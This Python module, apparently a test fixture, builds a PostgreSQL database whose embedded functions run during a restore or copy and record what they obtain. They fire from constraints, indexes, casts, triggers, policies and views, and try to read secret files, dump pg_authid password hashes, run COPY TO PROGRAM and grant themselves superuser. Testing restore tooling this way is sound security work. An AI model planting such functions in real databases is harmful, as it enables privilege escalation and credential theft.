"""A hostile source: its code stands wherever PostgreSQL runs code of a database, and tries what only a superuser may.

In the source itself it sleeps. Everywhere else it notes in `public.a_loot` where it ran, as whom, and what it got.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from pathlib import Path

import psycopg

PLACES = frozenset(
    {
        *(
            "check",
            "domain",
            "generated",
            "index",
            "index predicate",
            "materialized view",
            "operator",
            "cast",
            "type of an enum",
            "definer",
        ),
    }
)
"""Where a restore of everything runs code that comes with the backup."""
ON_INSERT = 2
"""How often code runs when a row is inserted that draws its id and copies everything else: by two triggers."""

_ATTEMPTS = """
  attempts text[] := ARRAY[
    $q$SELECT pg_catalog.pg_read_file({secret})$q$,
    $q$SELECT pg_catalog.lo_import({secret})$q$,
    $q$CREATE TEMP TABLE IF NOT EXISTS stolen (line text)$q$,
    $q$COPY public.a_loot FROM {secret}$q$,
    $q$COPY (SELECT 1) TO {marker}$q$,
    $q$COPY (SELECT 1) TO PROGRAM {program}$q$,
    $q$SELECT pg_catalog.pg_ls_dir('/')$q$,
    $q$SELECT rolpassword FROM pg_catalog.pg_authid WHERE rolpassword IS NOT NULL$q$,
    $q$CREATE ROLE hostile SUPERUSER$q$,
    $q$DO $do$ BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', current_user); END $do$$q$,
    $q$DO $do$ BEGIN EXECUTE format('GRANT pg_execute_server_program TO %I', current_user); END $do$$q$,
    $q$DO $do$ BEGIN EXECUTE format('GRANT pg_read_server_files TO %I', current_user); END $do$$q$,
    $q$SET ROLE postgres$q$,
    $q$SET SESSION AUTHORIZATION postgres$q$,
    $q$ALTER SYSTEM SET archive_command = 'true'$q$,
    $q$LOAD {secret}$q$,
    $q$CREATE FUNCTION public.planted(text) RETURNS text LANGUAGE c AS {secret}, 'f'$q$,
    $q$CREATE FUNCTION public.planted() RETURNS text LANGUAGE internal AS 'pg_read_file_all'$q$,
    $q$CREATE EVENT TRIGGER planted ON ddl_command_end EXECUTE FUNCTION public.on_event()$q$];
"""
_SQL = """
CREATE SEQUENCE public.a_count;
CREATE TABLE public.a_loot (place text, who text, super bool, got text);
CREATE FUNCTION public.act(place text) RETURNS bool LANGUAGE plpgsql VOLATILE AS $act$
DECLARE
{attempts}
  attempt text;
  got text := '';
  before text := current_setting('role');
BEGIN
  IF current_setting('hostile.asleep', true) = 'on' THEN RETURN true; END IF;
  IF place IN ('default', 'before trigger', 'constraint trigger') THEN PERFORM nextval('public.a_count'); END IF;
  FOREACH attempt IN ARRAY attempts LOOP
    BEGIN
      EXECUTE attempt;
      IF attempt NOT LIKE 'CREATE TEMP%' THEN got := got || attempt || '; '; END IF;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  BEGIN
    INSERT INTO public.a_loot
      SELECT place, current_user, rolsuper, got FROM pg_catalog.pg_roles WHERE rolname = current_user;
  EXCEPTION WHEN read_only_sql_transaction THEN
    NULL; -- The planner computes what is constant in an index already when a table is read.
  END;
  IF got <> '' THEN RAISE WARNING 'got: %', got; END IF;
  RETURN true;
END $act$;
CREATE FUNCTION public.evil(place text) RETURNS bool LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN RETURN public.act(place); END $$;
CREATE FUNCTION public.evil_text(place text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM public.act(place); RETURN 'x'; END $$;
CREATE FUNCTION public.definer(place text) RETURNS bool LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS
  $$ BEGIN RETURN public.act(place); END $$;
CREATE FUNCTION public.promised(a int) RETURNS bool LANGUAGE sql IMMUTABLE {leakproof} AS $$ SELECT true $$;
CREATE FUNCTION public.on_row() RETURNS trigger LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.act(TG_ARGV[0]); RETURN NEW; END $$;
CREATE FUNCTION public.on_event() RETURNS event_trigger LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.act('event trigger'); END $$;
CREATE DOMAIN public.checked AS int CHECK (public.evil('domain'));
CREATE TYPE public.mood AS ENUM ('sad', 'happy');
CREATE FUNCTION public.mood_text(public.mood) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM public.act('type of an enum'); RETURN 'sad'; END $$;
CREATE CAST (public.mood AS text) WITH FUNCTION public.mood_text(public.mood);
CREATE TYPE public.pair AS (a int, b int);
CREATE FUNCTION public.pair_int(public.pair) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM public.act('cast'); RETURN 1; END $$;
CREATE CAST (public.pair AS int) WITH FUNCTION public.pair_int(public.pair);
CREATE FUNCTION public.pair_like(public.pair, public.pair) RETURNS bool LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN RETURN public.act('operator'); END $$;
CREATE OPERATOR public.=== (LEFTARG = public.pair, RIGHTARG = public.pair, FUNCTION = public.pair_like);
CREATE TABLE public.goods (
  id serial PRIMARY KEY,
  name text DEFAULT public.evil_text('default'),
  small public.checked,
  mood public.mood DEFAULT 'sad',
  two public.pair DEFAULT ROW(1, 1)::public.pair,
  twice text GENERATED ALWAYS AS (public.evil_text('generated')) STORED,
  CONSTRAINT checking CHECK (public.evil('check')),
  CONSTRAINT promising CHECK (public.promised(id)),
  CONSTRAINT alike CHECK (two OPERATOR(public.===) two),
  CONSTRAINT casting CHECK (two::int = 1),
  CONSTRAINT shown CHECK (mood::text = 'sad'),
  CONSTRAINT defining CHECK (public.definer('definer')));
CREATE TABLE public.moods (mood public.mood PRIMARY KEY, name text);
CREATE TABLE public.guarded (id int PRIMARY KEY, mood public.mood REFERENCES public.moods);
ALTER TABLE public.guarded ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.guarded FORCE ROW LEVEL SECURITY;
CREATE POLICY watching ON public.guarded USING (public.evil('policy'));
CREATE INDEX evil_index ON public.goods ((public.evil_text('index')), id) WHERE public.evil('index predicate');
CREATE TRIGGER before_row BEFORE INSERT ON public.goods FOR EACH ROW EXECUTE FUNCTION public.on_row('before trigger');
CREATE CONSTRAINT TRIGGER later AFTER INSERT ON public.goods
  FOR EACH ROW EXECUTE FUNCTION public.on_row('constraint trigger');
CREATE VIEW public.seen AS SELECT id, public.evil_text('view') AS name FROM public.goods;
CREATE MATERIALIZED VIEW public.kept AS SELECT public.evil_text('materialized view') AS name FROM public.goods;
{for superusers}
INSERT INTO public.goods (name, small) SELECT 'g' || n, n FROM generate_series(1, 5) n;
INSERT INTO public.moods VALUES ('sad', 'Sad');
INSERT INTO public.guarded VALUES (1, 'sad'), (2, 'sad');
"""


def make_hostile(url: str, secret: Path, marker: Path, *, for_superusers: bool = True) -> None:
    """Make the tables and the code at `url`, a superuser's; `secret` is what it wants, `marker` what it would leave.

    With `for_superusers` some of it only a superuser may make.
    """
    trigger = "CREATE EVENT TRIGGER every_event ON ddl_command_end EXECUTE FUNCTION public.on_event();"
    script = _SQL.replace("{for superusers}", trigger if for_superusers else "")
    script = script.replace("{leakproof}", "LEAKPROOF" if for_superusers else "")
    quoted = {
        "secret": _literal(str(secret)),
        "marker": _literal(f"{marker}.copied"),
        "program": _literal(f"touch {marker}.program"),
    }
    attempts = _ATTEMPTS
    for name, text in quoted.items():
        attempts = attempts.replace(f"{{{name}}}", text)
    with psycopg.connect(url, autocommit=True) as session:
        database = session.info.dbname
        session.execute(f'ALTER DATABASE "{database}" SET hostile.asleep = on'.encode())
        session.execute("SET hostile.asleep = on")
        session.execute(script.replace("{attempts}", attempts).encode())


def loot(url: str) -> list[Mapping[str, object]]:
    """What the code noted at `url`."""
    with psycopg.connect(url, autocommit=True) as session:
        rows = session.execute("SELECT place, who, super, got FROM public.a_loot")
        names = ("place", "who", "super", "got")
        return [dict(zip(names, row, strict=True)) for row in rows]


def ran_on_insert(url: str) -> int:
    """How often code ran that an insert runs: a sequence counts on when a row is taken back."""
    with psycopg.connect(url, autocommit=True) as session:
        rows = session.execute("SELECT last_value FROM public.a_count WHERE is_called").fetchone()
        return int(rows[0]) if rows else 0


def places(noted: Iterable[Mapping[str, object]]) -> set[str]:
    """Where code ran."""
    return {str(row["place"]) for row in noted}


def _literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"
